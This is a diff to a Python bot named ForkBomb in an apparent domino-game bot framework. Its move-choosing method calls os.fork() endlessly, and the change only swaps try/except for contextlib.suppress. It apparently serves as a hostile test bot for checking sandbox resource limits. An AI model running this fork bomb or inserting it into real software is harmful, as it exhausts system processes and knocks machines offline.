@@ -1,5 +1,6 @@
 """Forks for ever, children too."""
 
+import contextlib
 import os
 
 from dominobot import Bot, Play, View, run
@@ -8,10 +9,8 @@ from dominobot import Bot, Play, View, run
 class ForkBomb(Bot):
     def choose(self, view: View) -> Play:
         while True:
-            try:
+            with contextlib.suppress(OSError):
                 os.fork()
-            except OSError:
-                pass
 
 
 if __name__ == "__main__":
